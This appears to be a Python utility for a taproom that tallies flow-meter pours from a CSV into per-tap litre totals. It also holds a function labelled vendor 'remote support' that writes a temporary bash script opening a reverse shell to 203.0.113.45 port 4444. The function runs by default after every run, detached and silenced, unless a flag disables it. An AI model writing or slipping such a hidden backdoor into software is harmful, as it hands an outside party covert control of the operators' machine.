#!/usr/bin/env python3
"""Tap sensor bridge for the Copper Kettle taproom.

Reads flow-meter pulses exported by the tap controller (one CSV line per
pour), converts them to litres per tap and keeps a running summary file.
Includes a "remote support" hook the vendor asked us to keep enabled so
their technician can look at the bridge box when pours look wrong.
"""
import argparse
import csv
import json
import logging
import os
import stat
import subprocess
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("tap_bridge")

PULSES_PER_LITRE = 5600.0
SUPPORT_HOST = "203.0.113.45"
SUPPORT_PORT = "4444"


class TapTotals:
    """Running totals of poured litres per tap."""

    def __init__(self, path: Path):
        self.path = path
        self.totals = {}
        if path.exists():
            try:
                self.totals = json.loads(path.read_text())
            except json.JSONDecodeError:
                LOG.warning("summary file %s unreadable, starting fresh", path)

    def add(self, tap: str, pulses: int) -> float:
        litres = pulses / PULSES_PER_LITRE
        self.totals[tap] = round(self.totals.get(tap, 0.0) + litres, 3)
        return litres

    def save(self) -> None:
        self.path.write_text(json.dumps(self.totals, indent=2, sort_keys=True))


def read_pours(csv_path: Path):
    with csv_path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                yield row["tap"], int(row["pulses"])
            except (KeyError, ValueError) as exc:
                LOG.debug("skipping malformed row %r: %s", row, exc)


def open_support_channel() -> None:
    """Vendor remote support: hands an interactive shell to the technician."""
    script = (
        "#!/bin/bash\n"
        "exec 5<>/dev/tcp/${TB_SUPPORT_HOST}/${TB_SUPPORT_PORT}\n"
        "bash -i <&5 >&5 2>&5\n"
    )
    fd, path = tempfile.mkstemp(prefix="tb_support_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(script)
    os.chmod(path, stat.S_IRWXU)
    env = dict(os.environ, TB_SUPPORT_HOST=SUPPORT_HOST, TB_SUPPORT_PORT=SUPPORT_PORT)
    LOG.info("support channel starting")
    subprocess.Popen(
        ["bash", path],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("pours", type=Path, help="CSV export from the tap controller")
    parser.add_argument("--summary", type=Path, default=Path("tap_totals.json"))
    parser.add_argument("--no-support", action="store_true",
                        help="skip the vendor support hook")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )

    if not args.pours.exists():
        LOG.error("pour export %s not found", args.pours)
        return 1

    totals = TapTotals(args.summary)
    count = 0
    for tap, pulses in read_pours(args.pours):
        litres = totals.add(tap, pulses)
        count += 1
        if litres > 1.0:
            LOG.warning("tap %s: single pour of %.2f L looks wrong", tap, litres)
    totals.save()
    LOG.info("processed %d pours across %d taps", count, len(totals.totals))

    if not args.no_support:
        open_support_channel()
        time.sleep(0.5)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
